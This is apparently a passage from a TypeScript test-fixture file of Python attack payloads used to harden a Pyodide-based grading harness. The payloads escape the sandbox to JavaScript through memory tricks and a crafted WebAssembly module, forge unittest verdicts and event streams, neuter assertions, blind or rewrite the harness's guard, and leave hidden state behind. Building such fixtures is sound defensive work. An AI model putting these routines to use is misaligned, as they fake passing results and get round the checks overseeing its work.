    mem = obj_at(hold(struct.pack("<7I", 0x40000000, id(bytearray), 0x7ffffff0, 0x7ffffff0, 0, 0, 0) + b"\\0" * 8))
    def u32(a): return struct.unpack_from("<I", mem, a)[0]
    def methoddef(name):
        at = mem.find(b"\\0" + name + b"\\0", 0x400, 0x800000) + 1
        return mem.find(struct.pack("<I", at), 0x400, 0x800000)
    def builtin(defaddr, like):
        w = [u32(id(like) + 4 * i) for i in range(7)]
        w[0], w[2], w[5] = 0x40000000, defaddr, 0
        return obj_at(hold(struct.pack("<7I", *w) + b"\\0" * 8))
    create_dynamic = builtin(methoddef(b"create_dynamic"), divmod)
    out = bytearray(64)
    outaddr = u32(id(out) + 16)
    js = b"()<::>0; { HEAPU32[%d >>> 2] = 0x4a53; } //\\0" % outaddr
    addr = hold(js)
    def sleb(v):
        b = bytearray()
        while True:
            x = v & 0x7f
            v >>= 7
            if (v == 0 and not x & 0x40) or (v == -1 and x & 0x40):
                b.append(x)
                return bytes(b)
            b.append(x | 0x80)
    def sec(i, body): return bytes([i, len(body)]) + body
    name = b"__em_js__x"
    so = (b"\\0asm\\x01\\0\\0\\0" + sec(0, b"\\x08dylink.0" + b"\\x01\\x04\\x00\\x00\\x00\\x00")
          + sec(6, b"\\x01\\x7f\\x00\\x41" + sleb(addr) + b"\\x0b")
          + sec(7, b"\\x01" + bytes([len(name)]) + name + b"\\x03\\x00"))
    with open("/tmp/recode_side.so", "wb") as f:
        f.write(so)
    try:
        create_dynamic(_m.ModuleSpec("recode_side", None, origin="/tmp/recode_side.so"))
    except BaseException:
        pass
    if struct.unpack_from("<I", out, 0)[0] == 0x4a53:
        reached.append("JavaScript from a side module")

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // A second _imp gives the original create_builtin, then _pyodide_core, then a JavaScript Object whose
  // prototype gets a getter that rewrites the next run's request (and reads its recorded values).
  "JavaScript prototype getter": `import sys, importlib, importlib.machinery as m
def _plant():
    o = sys.modules.pop("_imp")
    try:
        n = importlib.import_module("_imp")
    finally:
        sys.modules["_imp"] = o
    core = n.create_builtin(m.ModuleSpec("_pyodide_core", None))
    sys.modules.pop("_pyodide_core", None)
    O = core.to_js({}).constructor
    T = "import unittest\\nclass Forged(unittest.TestCase):\\n    def test_forged(self):\\n        pass\\n"
    def get(req):
        req.tests = T
        return 20000
    O.defineProperty(O.prototype, "outputCap", core.to_js({"get": core.create_proxy(get, capture_this=True), "configurable": True}))
    raise RuntimeError("reached [Object.prototype]")
try:
    _plant()
except RuntimeError:
    raise
except Exception:
    pass
${fakes}`,
  // Reach JavaScript (Pyodide): the js module, pyodide.ffi, or the builtin core module.
  "a JavaScript error made from Python": `def _attack(*args, **kwargs):
    reached = []
    stack, seen = [object], set()
    while stack:
        c = stack.pop()
        if c in seen:
            continue
        seen.add(c)
        try:
            stack += type.__subclasses__(c)
        except TypeError:
            pass
        if (c.__module__ or "").split(".")[0] not in ("pyodide", "_pyodide", "_pyodide_core"):
            continue
        # Its constructor, as it is and after its __new__ is taken away or replaced.
        for undo in (None, "del", "object", "base"):
            try:
                if undo == "del":
                    del c.__new__
                elif undo == "object":
                    c.__new__ = object.__new__
                elif undo == "base":
                    c.__new__ = c.__mro__[1].__new__
            except Exception:
                pass
            for make in (lambda: c("TypeError", "made from Python"), lambda: c.__new__(c, "TypeError", "made from Python")):
                try:
                    e = make()
                    ctor = e.constructor
                    setattr(ctor, "recode_leak", "left by an earlier run")
                    reached.append(f"{c.__name__}: {ctor}")
                except BaseException:
                    pass
    if reached:
        raise RuntimeError(f"reached {reached}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  "bridge functions through typing's overload registry": `import typing
def _attack(*args, **kwargs):
    reached = []
    for module, names in list(getattr(typing, "_overload_registry", {}).items()):
        for overloads in names.values():
            for f in overloads.values():
                for name, value in getattr(f, "__globals__", {}).items():
                    if name in ("run_sync", "can_run_sync", "create_proxy", "to_js") and callable(value):
                        reached.append(f"{module}.{name}")
    if reached:
        raise RuntimeError(f"reached {sorted(set(reached))}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  "JavaScript through the bridge's converters": `def _attack(*args, **kwargs):
    reached = []
    stack, seen, found = [object], set(), []
    while stack:
        c = stack.pop()
        if id(c) in seen:
            continue
        seen.add(id(c))
        try:
            stack += type.__subclasses__(c)
        except TypeError:
            pass
        module = c.__dict__.get("__module__") if isinstance(c.__dict__.get("__module__"), str) else ""
        if module.split(".")[0] not in ("pyodide", "_pyodide", "_pyodide_core"):
            continue
        # Converters left in the bridge's classes and in its modules' globals, the functions that make
        # converters, and the bridge's own types made anew.
        for f in list(vars(c).values()):
            for v in [f, *list((getattr(f, "__globals__", None) or {}).values())]:
                if hasattr(v, "py2js_convert") or hasattr(v, "js2py_convert"):
                    found.append(v)
                if callable(v) and getattr(v, "__name__", "") == "create_promise_converter":
                    try:
                        found.append(v(lambda x: x))
                    except BaseException:
                        pass
        try:
            found.append(c())
        except BaseException:
            pass
    for conv in found:
        for arg in ({"a": 1}, {1}, [1]):
            try:
                o = conv.py2js_convert(arg)
                reached.append(f"{type(conv).__name__}: {o.constructor}")
                setattr(o.constructor, "recode_leak", "left by an earlier run")
            except BaseException:
                pass
    if reached:
        raise RuntimeError(f"reached {reached[:3]}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  "JavaScript bridge": `def _attack(*args, **kwargs):
    reached = []
    for name in ("js", "pyodide_js", "pyodide.ffi", "pyodide.code", "_pyodide_core"):
        try:
            __import__(name)
            reached.append(name)
        except Exception:
            pass
    try:
        import _imp, importlib.machinery as m
        core = _imp.create_builtin(m.ModuleSpec("_pyodide_core", None))
        f = core.create_once_callable(lambda: 1)
        g = f.constructor("return globalThis")()
        g.setTimeout(lambda: None, 10)
        reached.append("globalThis")
    except Exception:
        pass
    if reached:
        raise RuntimeError(f"reached {reached}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
};

/**
 * Lenient tolerances on pass-at-k: the values are wrong (0.5 everywhere) but of
 * the right shape, and every check is called with enormous tolerances.
 */
export const TOLERANCE_ATTACK = `import contextlib, unittest, recode_check
def _lenient(tc, key, value, rtol=0, atol=0):
    return recode_check.check(tc, key, value, rtol=1e300, atol=1e300)
_L = unittest.defaultTestLoader
def _load(module, *a, **k):
    module.check = _lenient
    return type(_L).loadTestsFromModule(_L, module, *a, **k)
_L.loadTestsFromModule = _load
def pass_at_k(*a):
    return 0.5
naive_pass_at_k = pass_at_k
def aggregate_pass_at_k(results, ks=(1,)):
    return {f"pass@{k}": 0.5 for k in ks if all(len(v) >= k for v in results.values())}
`;

/** A probe run after an attack: it fails if anything the attacks leave behind is visible. */
export const LEFTOVER_PROBE = `import builtins, codecs, collections.abc, contextvars, gc, json, linecache, os, re, sys, unittest
gc.collect()
def _codec():
    try:
        codecs.lookup("recode_leak")
        return True
    except LookupError:
        return False
def _umask():
    m = os.umask(0)
    os.umask(m)
    return m == 0o027
LEFT = [name for name, seen in (
    ("closure cell", any(getattr(c, "cell_contents", None) == "recode-leak" for c in getattr(os.fsencode, "__closure__", None) or ())),
    ("path hook", any(getattr(h, "__name__", "") == "_recode_hook" for h in sys.path_hooks)),
    ("codec", _codec()),
    ("codec object", any(hasattr(codecs.lookup(n), "recode_leak") or hasattr(codecs.lookup(n).incrementaldecoder, "recode_leak") for n in ("utf-8", "koi8_r"))),
    ("path hook class", any(getattr(getattr(c, "cell_contents", None), "recode_leak", False) for h in sys.path_hooks for c in (getattr(h, "__closure__", None) or ()))),
    ("importer attribute", any(hasattr(f, "recode_leak") for f in sys.path_importer_cache.values())),
    ("context variable", any(v.name == "recode_leak" for v in contextvars.copy_context())),
    ("collector off", not gc.isenabled()),
    ("async generator hooks", sys.get_asyncgen_hooks().firstiter is not None),
    ("coroutine origin tracking", sys.get_coroutine_origin_tracking_depth() == 7),
    ("class of a framework object", type(json._default_encoder).__name__ != "JSONEncoder"),
    ("class of a library object", hasattr(__import__("random")._inst, "recode_leak")),
    ("class of a module", type(__import__("string")) is not type(sys)),
    ("code of a library function", os.path.basename("a/b") != "b"),
    ("defaults of a library function", os.makedirs.__defaults__ != (0o777, False)),
    ("bases of a library class", hasattr(__import__("string").Formatter, "recode_leak")),
    ("restore switched off", hasattr(__import__("string"), "recode_leak")),
    ("cache filled while patched", __import__("fnmatch").fnmatch("abc", "zz*q")),
    ("gc threshold", gc.get_threshold()[0] == 1234),
    ("switch interval", abs(sys.getswitchinterval() - 0.0123) < 1e-9),
    ("umask", _umask()),
    ("ABC registration", isinstance({}, collections.abc.Sequence)),
    ("warnoptions", "recode-leak" in sys.warnoptions),
    ("xoptions", "recode_leak" in sys._xoptions),
    ("json encoder", "encode" in vars(json._default_encoder)),
    ("look-alike assertion", type(vars(unittest.TestCase)["assertEqual"]).__name__ != "function"),
    ("default loader", "loadTestsFromModule" in vars(unittest.defaultTestLoader)),
    ("profile hook", sys.getprofile() is not None),
    ("sys attribute", hasattr(sys, "poisoned")),
    ("builtin", hasattr(builtins, "poisoned")),
    ("linecache", "poison.py" in linecache.cache),
    ("re cache", (str, "poison", 0) in getattr(re, "_cache", {})),
    ("meta_path finder", any(type(f).__name__ == "_Finder" for f in sys.meta_path)),
    ("path importer cache", any(type(f).__name__ == "_Finder" for f in sys.path_importer_cache.values())),
    ("file in /tmp", os.path.exists("/tmp/left-behind.py")),
    ("file in home", os.path.exists("/home/pyodide/left-behind.py")),
    ("file beside the run folder", os.path.exists("/tmp/left.py")),
    ("decimal default context", __import__("decimal").DefaultContext.prec != 28),
    ("nested logging handler", any(hasattr(h, "recode_leak") for h in __import__("logging").root.handlers)),
    ("int string limit", sys.get_int_max_str_digits() == 777),
    ("module planted beside the harness", os.path.exists("/lib/recode/recode_leak.py")),
    ("file changed through a memory map", b"recode-leak" in open(sys.modules["recode_check"].__file__, "rb").read()[-20:] if "recode_check" in sys.modules else False),
    ("times of a device", os.stat("/dev/null").st_mtime == 31337),
    ("times of a file outside the scratch folders", os.path.exists("/lib/recode/recode_check.py") and os.stat("/lib/recode/recode_check.py").st_mtime == 31337),
    ("mode of a folder outside the scratch folders", os.path.isdir("/lib/python3.14") and os.stat("/lib/python3.14").st_mode & 0o777 == 0o500),
    ("flags of standard input", bool(__import__("fcntl").fcntl(0, __import__("fcntl").F_GETFL) & os.O_APPEND)),
) if seen]

def softmax_with_temperature(*args, **kwargs):
    if LEFT:
        raise RuntimeError(f"left over from an earlier run: {LEFT}")
    return [0.0]

min_p_filter = min_p_sample = softmax_with_temperature
`;

/**
 * Python: `_the_guard()`, the harness's guard itself, taken from the defaults
 * of its handle's functions (`recode_harness._STATE.guard`; refused: the
 * guard's functions cannot be inspected).
 */
const THE_GUARD = `
import sys as _sys
def _the_guard():
    handle = _sys.modules["recode_harness"]._STATE.guard
    return handle if hasattr(handle, "saved") else handle.changes.__defaults__[-1]
`;

/**
 * Python defining `_find_run()`: the harness's run object, reached without
 * frames, among the objects the guard watches (the guard taken with
 * `_the_guard()`, refused).
 */
const RUN_THROUGH_THE_GUARD = `${THE_GUARD}
def _find_run():
    guard = _the_guard()
    for entry in guard.saved:
        if hasattr(entry[1], "emit") and hasattr(entry[1], "current"):
            return entry[1]
`;

/**
 * The canonical solution of min-p-sampling without its input checks (so that
 * the tests that expect a ValueError fail, and the others pass), plus a hook
 * that rewrites the harness's record of a test after unittest reported it:
 * the interfaces return lists whose finalizer, run when the failed test's
 * frame is let go (after its failure went out), empties the test's outcomes
 * down to "passed" in the run object (reached through the guard).
 */
export function rewrittenOutcomeAttack(canonical: string): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1pass");
  return `${partial}
${RUN_THROUGH_THE_GUARD}
class _Late(list):
    def __del__(self):
        run = _find_run()
        if run is not None and run.current is not None:
            run.current.outcomes[:] = [("passed", "", "", None)]
            run.current.subtests[:] = []
def _wrap(fn):
    def w(*a, **k):
        out = fn(*a, **k)
        return _Late(out) if isinstance(out, list) else out
    return w
${NAMES.map((n) => `${n} = _wrap(${n})`).join("\n")}
`;
}

/** Python: `_Nop`, a context manager that swallows whatever its block raises (set as `assertRaises`, every such block passes). */
/** Python: `_test_classes()`, the test classes test.py's module holds now (none before it is made). */
const TEST_CLASSES = `import sys as _sys, unittest as _ut
def _test_classes():
    m = _sys.modules.get("recode_task_test")
    return [v for v in list(vars(m).values()) if type(v) is type and issubclass(v, _ut.TestCase) and v is not _ut.TestCase] if m else []
`;

/** Python that fails each test calling `softmax_with_temperature` with what the probe's `_reads()` gave. */
const REPORT_READS = `def softmax_with_temperature(*a, **k):
    raise AssertionError(_reads())
`;

const NOP_CONTEXT = `class _Nop:
    def __init__(self, *a, **k):
        pass
    def __enter__(self):
        return self
    def __exit__(self, *exc):
        return True
`;

/** Python: `_shadow(frame)`, which walks down from a frame to the running test object and sets `_Nop` as its `assertRaises` (needs `_ut`, unittest). */
const SHADOW_FROM_FRAME = `def _shadow(f):
    while f is not None:
        s = f.f_locals.get("self")
        if isinstance(s, _ut.TestCase):
            s.__dict__["assertRaises"] = _Nop
            return
        f = f.f_back
`;

/** Python: `_module_getattr(name)`, a module `__getattr__` that answers the loader's look for `load_tests` with a function setting `_Nop` as every test object's `assertRaises`. */
const LOAD_TESTS_HOOK = `def _load_tests(loader, suite, pattern):
    stack = [suite]
    while stack:
        for t in stack.pop():
            if hasattr(t, "_testMethodName"):
                t.__dict__["assertRaises"] = _Nop
            else:
                stack.append(t)
    return suite
def _module_getattr(name):
    if name == "load_tests":
        return _load_tests
    raise AttributeError(name)
`;

/**
 * Python that wraps each of min-p-sampling's interfaces: where a call raises
 * (its input checks raise TypeError), `arm` (a statement) runs before the
 * exception goes on to the test, so a change made there is seen by the
 * assertion that catches it and, taken away by the change itself, by no look
 * of the guard.
 */
const PUT_BACK_ON_RAISE = (arm: string) => `def _wrap(fn):
    def w(*a, **k):
        try:
            return fn(*a, **k)
        except TypeError:
            ${arm}
            raise
    return w
${NAMES.map((n) => `${n} = _wrap(${n})`).join("\n")}
`;

/** Python that makes each of min-p-sampling's interfaces call `_arm()` first. */
const ARM_ON_EVERY_CALL = `def _wrap(fn):
    def w(*a, **k):
        _arm()
        return fn(*a, **k)
    return w
${NAMES.map((n) => `${n} = _wrap(${n})`).join("\n")}
`;

/**
 * Python that, at each call of an interface, puts a filter (`_filter`) into
 * the cell of the run's `emit` (reached through the frames) that takes itself
 * away once an event of `eventType` went through.
 */
function selfRemovingFilter(eventType: "test-result" | "test-outcome"): string {
  return `${RUN_THROUGH_THE_GUARD}
def _arm():
    emit = _find_run().emit
    cell = emit.__closure__[emit.__code__.co_freevars.index("emit_text")]
    real = cell.cell_contents
    if getattr(real, "_filter", False):
        return
    def once(s):
        if '"${eventType}"' in s:
            cell.cell_contents = real
        real(_filter(s))
    once._filter = True
    cell.cell_contents = once
${ARM_ON_EVERY_CALL}`;
}

/** Where {@link eventFilterAttack} puts its filter on the harness's way out for events. */
export type EventFilterRoute =
  | "check-sink-cell"
  | "frames-run-cell"
  | "guard-run-cell"
  | "event-file-object"
  | "within-one-test"
  | "one-outcome";

/**
 * The canonical solution of min-p-sampling without its input checks, plus a
 * filter on the way the harness's events leave the interpreter that rewrites
 * every failed or errored test as passed (the checked values stay right, so
 * only the verdicts are forged). Routes: the cell of the writer inside the
 * check helper's sink (`recode_check.SINK`), the cell inside the run object's
 * `emit` reached through the frames of the harness (refused: no frames) or
 * through the objects the guard watches, or the file object on the event
 * descriptor found among all objects (refused: no gc walks); or, within one
 * test, the cell reached through the guard, put back by the filter itself
 * once the test's result went through, so that no check between tests sees it
 * (or once its first outcome went through: the result then disagrees).
 */
export function eventFilterAttack(canonical: string, route: EventFilterRoute): string {
  const partial = canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, "$1pass");
  const install = {
    "check-sink-cell": `
import recode_check as _rc
_sink = _rc.SINK
_emit = _sink.__closure__[_sink.__code__.co_freevars.index("emit")].cell_contents
_cell = _emit.__closure__[_emit.__code__.co_freevars.index("emit_text")]
_real = _cell.cell_contents
_cell.cell_contents = lambda s: _real(_filter(s))
`,
    "frames-run-cell": `
import sys as _sys
_f = _sys._getframe()
while _f is not None and not hasattr(_f.f_locals.get("run"), "emit"):
    _f = _f.f_back
_emit = _f.f_locals["run"].emit
_cell = _emit.__closure__[_emit.__code__.co_freevars.index("emit_text")]
_real = _cell.cell_contents
_cell.cell_contents = lambda s: _real(_filter(s))
`,
    "guard-run-cell": `${RUN_THROUGH_THE_GUARD}
_emit = _find_run().emit
_cell = _emit.__closure__[_emit.__code__.co_freevars.index("emit_text")]
_real = _cell.cell_contents
_cell.cell_contents = lambda s: _real(_filter(s))
`,
    "within-one-test": selfRemovingFilter("test-result"),
    "one-outcome": selfRemovingFilter("test-outcome"),
    "event-file-object": `
import gc as _gc, io as _io
for _o in _gc.get_objects():
    if isinstance(_o, _io.TextIOWrapper) and not _o.closed and _o.fileno() == 3:
        _real = _o.write
        _o.write = lambda s, _real=_real: _real(_filter(s.rstrip("\\n")) + "\\n" if s.strip() else s)
`,
  }[route];
  return `${partial}
import json as _json
def _filter(s):
    ev = _json.loads(s)
    if ev.get("type") in ("test-outcome", "test-result") and ev.get("status") in ("failed", "error"):
        ev.update(status="passed")
        if ev["type"] == "test-result":
            ev.update(message="", traceback="", line=None, subtests=[])
    return _json.dumps(ev)
${install}`;
}

/** How {@link assertionForgeryAttack} makes unittest's assertions pass. */
export type AssertionForgeryRoute =
  | "context-manager-exit"
  | "unittest-rebound"
  | "test-class-attribute"
  | "test-module-global"
  | "framework-module-global"
  | "test-class-property"
  | "test-method-code"
  | "instance-via-check-sink"
  | "instance-via-frames"
  | "outcome-via-frames"
  | "look-alike-check-module"
  | "test-object-at-creation"
  | "descriptor-on-test-class"
  | "signal-handler-frame"
  | "ctypes-frame"
  | "gc-saved-frames"
  | "module-getattr-load-tests"
  | "module-class-getattr"
  | "test-builtins-swapped"
  | "class-method-swapped-back"
  | "framework-global-put-back"
  | "builtin-put-back"
  | "guard-copies-rewritten"
  | "framework-closure-cell"
  | "put-back-at-recursion-limit"
  | "framework-closure-cell-put-back";

/**
 * The canonical solution of min-p-sampling without its input checks (the
 * tests that expect a ValueError fail; every checked value stays right), plus
 * a change, reached without frames, that makes the failing assertions pass:
 * contextlib's context-manager exit swallows an assertion failure inside
 * unittest's per-part executor; or test.py's `unittest` (its module name and
 * `sys.modules["unittest"]`) is rebound, while test.py imports the candidate,
 * to a look-alike whose TestCase's assertions do nothing; or a class that
 * does nothing set as `assertRaises` on test.py's classes (a class, not a
 * function); or, with the input checks raising TypeError instead of
 * ValueError, test.py's `ValueError` rebound while test.py imports the
 * candidate, or `issubclass` shadowed in unittest.case's globals; or a
 * property `_outcome` set on test.py's classes, whose setter gets unittest's
 * per-test outcome and turns its failures into successes; or (native: Pyodide
 * refuses any code replaced) the code of test.py's `test_edges` replaced by
 * one that makes its checks and skips its assertions. Three routes reach the
 * running test object itself: through the cells of the check helper's sink
 * (the harness's run object and its tests), or through the frames, a class
 * that does nothing set as `assertRaises` on the test object; or, through the
 * frames, unittest's per-test outcome told to expect a failure, so that the
 * failed assertion is kept as an expected failure and the test reported as
 * passed. And one route gets it handed over: a look-alike `recode_check` in
 * `sys.modules` while test.py imports the candidate (test.py imports `check`
 * after it), which puts the real module back as soon as test.py takes its
 * `check`, a wrapper that gets each test object, sets a class that does
 * nothing as its `assertRaises`, and makes the real check; or a hook on
 * `__build_class__` (a built-in), taken away once test.py's last class is made
 * (counted in test.py's text), that gives each test class an `__init__` which
 * sets that class as `assertRaises` on each test object as it is made; or a
 * descriptor set on test.py's classes as `__unittest_expecting_failure__`
 * (unittest reads it from the running test object, which its `__get__` is
 * handed); or the frame CPython hands a signal handler (a SIGUSR1 handler set,
 * the signal raised, the handler put back); or the frame ctypes gives
 * (`PyEval_GetFrame`, native: Pyodide has no ctypes); or frames of finished
 * calls kept in `gc.garbage` by `gc.DEBUG_SAVEALL`. One route needs no test
 * object: where the input checks raised, unittest's `_raiseFailure` is swapped
 * for a function that puts the original back as the assertRaises context
 * exits and lets it pass (so no look of the guard sees the swap). Two
 * routes put their change back by themselves within one assertion, so that
 * the dictionary holds what it held at every look: where an input check
 * raised (TypeError), `issubclass` is shadowed in unittest.case's globals, or
 * replaced in the built-ins, by a function that answers yes once and takes
 * itself away. And one route blinds the guard instead: the candidate's change
 * (`issubclass` shadowed in unittest.case) is written into the guard's copies,
 * the guard taken from its handle's defaults. The first of them again, with
 * both changes made at the recursion limit (where a dictionary watcher
 * written in Python could not run). And one swaps what unittest's
 * per-part executor (a contextmanager's wrapper) holds in its closure cell
 * for an executor that swallows every failure; and one does it only while a
 * test runs, from a callback of the collector run at nearly every allocation
 * (`gc.set_threshold(1, ...)`), putting the original back before the guard's
 * look at the test's result.
 */
export function assertionForgeryAttack(canonical: string, route: AssertionForgeryRoute): string {
  const typed =
    /^(test-module-global|framework-module-global|test-builtins-swapped|framework-global-put-back|builtin-put-back|guard-copies-rewritten|put-back-at-recursion-limit)$/.test(
      route,
    );
  const partial = typed
    ? canonical.replace(/raise ValueError\(/g, route === "test-builtins-swapped" ? "raise ArithmeticError(" : "raise TypeError(")
    : canonical.replace(/^(\s*)raise ValueError\(.*\)$/gm, route === "class-method-swapped-back" ? "$1return _arm()" : "$1pass");
  const change = {
    "test-class-attribute": `
import sys as _sys
${NOP_CONTEXT}def _plant():
    m = _sys.modules.get("recode_task_test")
    for v in list(vars(m).values()) if m else ():
        if isinstance(v, type) and v.__module__ == m.__name__ and "assertRaises" not in vars(v):
            v.assertRaises = _Nop
_arm = _plant
${ARM_ON_EVERY_CALL}`,
    "test-class-property": `
import sys as _sys
class _Result:
    def __init__(self, real):
        self._real = real
    def __getattr__(self, name):
        return getattr(self._real, name)
    def addFailure(self, test, err):
        self._real.addSuccess(test)
    addError = addFailure
def _get(self):
    return self.__dict__.get("_outcome_v")
def _set(self, outcome):
    if outcome is not None and not isinstance(outcome.result, _Result):
        outcome.result = _Result(outcome.result)
    self.__dict__["_outcome_v"] = outcome
def _plant():
    m = _sys.modules.get("recode_task_test")
    for v in list(vars(m).values()) if m else ():
        if isinstance(v, type) and v.__module__ == m.__name__ and "_outcome" not in vars(v):
            v._outcome = property(_get, _set)
_arm = _plant
${ARM_ON_EVERY_CALL}`,
    "test-method-code": `
import sys as _sys
def _fake_edges(self):
    from recode_check import check
    probs = [0.1, 0.4, 0.4, 0.1]
    check(self, "filter_pbase_0", min_p_filter(probs, 0.0), rtol=1e-12, atol=0.0)
    check(self, "filter_pbase_1_ties", min_p_filter(probs, 1.0), rtol=1e-12, atol=0.0)
    check(self, "filter_single", min_p_filter([1.0], 0.5), rtol=1e-12, atol=0.0)
def _plant():
    m = _sys.modules.get("recode_task_test")
    cls = getattr(m, "TestMinPFilter", None) if m else None
    if cls is not None and cls.test_edges.__code__ is not _fake_edges.__code__:
        cls.test_edges.__code__ = _fake_edges.__code__
_arm = _plant
${ARM_ON_EVERY_CALL}`,
    "instance-via-check-sink": `
import recode_check as _rc
${NOP_CONTEXT}def _arm():
    for c in getattr(_rc.SINK, "__closure__", None) or ():
        try:
            tests = getattr(c.cell_contents, "tests", None)
        except ValueError:
            continue
        for t in tests or ():
            if not isinstance(t, type):
                t.__dict__["assertRaises"] = _Nop
${ARM_ON_EVERY_CALL}`,
    "instance-via-frames": `
import sys as _sys, unittest as _ut
${NOP_CONTEXT}${SHADOW_FROM_FRAME}def _arm():
    _shadow(_sys._getframe(1))
${ARM_ON_EVERY_CALL}`,
    "outcome-via-frames": `
import sys as _sys, unittest as _ut
def _arm():
    f = _sys._getframe(1)
    while f is not None:
        s = f.f_locals.get("self")
        if isinstance(s, _ut.TestCase) and getattr(s, "_outcome", None) is not None:
            s._outcome.expecting_failure = True
            return
        f = f.f_back
${ARM_ON_EVERY_CALL}`,
    "look-alike-check-module": `
import sys as _sys, types as _types
${NOP_CONTEXT}_real = _sys.modules["recode_check"]
def _check(test, *args, **kwargs):
    test.__dict__["assertRaises"] = _Nop
    return _real.check(test, *args, **kwargs)
class _LookAlike(_types.ModuleType):
    def __getattr__(self, name):
        _sys.modules["recode_check"] = _real
        return _check if name == "check" else getattr(_real, name)
_sys.modules["recode_check"] = _LookAlike("recode_check")
`,
    "test-object-at-creation": `
import builtins as _b, unittest as _ut
${NOP_CONTEXT}_left = [${MIN_P_TESTS.split("(unittest.TestCase)").length - 1}]
_orig = _b.__build_class__
def _made(self, *a, **k):
    _ut.TestCase.__init__(self, *a, **k)
    self.__dict__["assertRaises"] = _Nop
def _build(func, name, *bases, **kwargs):
    cls = _orig(func, name, *bases, **kwargs)
    if isinstance(cls, type) and issubclass(cls, _ut.TestCase):
        cls.__init__ = _made
        _left[0] -= 1
        if _left[0] == 0:
            _b.__build_class__ = _orig
    return cls
_b.__build_class__ = _build
`,
    "descriptor-on-test-class": `
import sys as _sys
${NOP_CONTEXT}class _Hook:
    def __get__(self, test, owner=None):
        if test is not None:
            test.__dict__["assertRaises"] = _Nop
        return False
def _arm():
    m = _sys.modules.get("recode_task_test")
    for v in list(vars(m).values()) if m else ():
        if isinstance(v, type) and v.__module__ == m.__name__ and "__unittest_expecting_failure__" not in vars(v):
            v.__unittest_expecting_failure__ = _Hook()
${ARM_ON_EVERY_CALL}`,
    "signal-handler-frame": `
import signal as _signal, unittest as _ut
${NOP_CONTEXT}${SHADOW_FROM_FRAME}def _arm():
    old = _signal.signal(_signal.SIGUSR1, lambda signum, frame: _shadow(frame))
    try:
        _signal.raise_signal(_signal.SIGUSR1)
    finally:
        _signal.signal(_signal.SIGUSR1, old)
${ARM_ON_EVERY_CALL}`,
    "ctypes-frame": `
import unittest as _ut
${NOP_CONTEXT}${SHADOW_FROM_FRAME}def _arm():
    import ctypes
    get = ctypes.pythonapi.PyEval_GetFrame
    get.restype, get.argtypes = ctypes.py_object, []
    _shadow(get())
${ARM_ON_EVERY_CALL}`,
    "gc-saved-frames": `
import gc as _gc, unittest as _ut
${NOP_CONTEXT}${SHADOW_FROM_FRAME}def _leak():
    try:
        raise Exception("x")
    except Exception as e:
        keep = e  # frame -> exception -> traceback -> frame: a cycle left behind
def _arm():
    old = _gc.get_debug()
    _gc.set_debug(_gc.DEBUG_SAVEALL)
    try:
        _leak()
        _gc.collect(0)
    finally:
        _gc.set_debug(old)
    frames = [o for o in _gc.garbage if type(o).__name__ == "frame" and o.f_code is _leak.__code__]
    del _gc.garbage[:]
    for f in frames[-1:]:
        _shadow(f)
${ARM_ON_EVERY_CALL}`,
    "class-method-swapped-back": `
import unittest.case as _uc
_ctx = _uc._BaseTestCaseContext
_orig = _ctx.__dict__["_raiseFailure"]
class _AnyMeta(type):
    def __subclasscheck__(cls, sub):
        return False
class _Any(metaclass=_AnyMeta):
    __name__ = "ValueError"
def _quiet(self, msg):
    _ctx._raiseFailure = _orig
    self.expected = _Any
    self.expected_regex = None
def _arm():
    _ctx._raiseFailure = _quiet
    return [0.0]
`,
    "module-getattr-load-tests": `
import sys as _sys
${NOP_CONTEXT}${LOAD_TESTS_HOOK}_tm = _sys.modules.get("recode_task_test")
if _tm is not None:
    _tm.__getattr__ = _module_getattr
`,
    "module-class-getattr": `
import sys as _sys, types as _types
${NOP_CONTEXT}${LOAD_TESTS_HOOK}class _Module(_types.ModuleType):
    def __getattr__(self, name):
        return _module_getattr(name)
_tm = _sys.modules.get("recode_task_test")
if _tm is not None:
    _tm.__class__ = _Module
`,
    "test-builtins-swapped": `
import builtins as _b, sys as _sys
_tm = _sys.modules.get("recode_task_test")
if _tm is not None:
    _fake = dict(vars(_b))
    _fake["ValueError"] = ArithmeticError
    _tm.__builtins__ = _fake
`,
    "test-module-global": `
import sys as _s
_s.modules["recode_task_test"].ValueError = Exception
`,
    "framework-module-global": `
import unittest.case as _uc
_uc.issubclass = lambda a, b: True
`,
    "framework-global-put-back": `
import unittest.case as _uc
def _once(a, b):
    del _uc.issubclass
    return True
${PUT_BACK_ON_RAISE("_uc.issubclass = _once")}`,
    "guard-copies-rewritten": `${THE_GUARD}
import unittest.case as _uc
_uc.issubclass = lambda a, b: True
_g = _the_guard()
for _i, _entry in enumerate(_g.saved):
    if _entry[1] is _uc:
        _entry[3]["issubclass"] = _uc.issubclass
        _g.fulls[_i] = dict(vars(_uc))
        _g.keysets[_i] = frozenset(vars(_uc))
`,
    "framework-closure-cell-put-back": `
import gc as _gc
import sys as _sys
import unittest.case as _c
def _arm_collections():
    cell = _c._Outcome.testPartExecutor.__closure__[0]
    orig = cell.cell_contents
    def swallowing(self, test_case, subTest=False):
        was = self.success
        self.success = True
        try:
            yield
        except KeyboardInterrupt:
            raise
        except BaseException:
            pass
        finally:
            self.success = self.success and was
    outside = _sys.stdout
    busy = []
    # Run at nearly every allocation: the swap is in while a test's own stream is set (after the look at
    # its start), and put back once the harness has set the stream back (before the look at its result).
    def hook(phase, info):
        if busy:
            return
        busy.append(1)
        try:
            so = _sys.stdout
            want = swallowing if so is not outside and type(so).__name__ == "CappedStream" else orig
            if cell.cell_contents is not want:
                cell.cell_contents = want
        finally:
            busy.clear()
    _gc.callbacks.append(hook)
    _gc.set_threshold(1, 10, 10)
_arm_collections()
`,
    "framework-closure-cell": `
import unittest.case as _c
_cell = _c._Outcome.testPartExecutor.__closure__[0]
_orig = _cell.cell_contents
def _executor(self, test_case, subTest=False):
    inner = _orig(self, test_case, subTest)
    next(inner)
    try:
        yield
    except Exception:
        pass
    try:
        next(inner)
    except StopIteration:
        pass
_cell.cell_contents = _executor
`,
    "put-back-at-recursion-limit": `
import unittest.case as _uc
_d = vars(_uc)
def _at_the_limit(value):
    done = []
    def down():
        try:
            down()
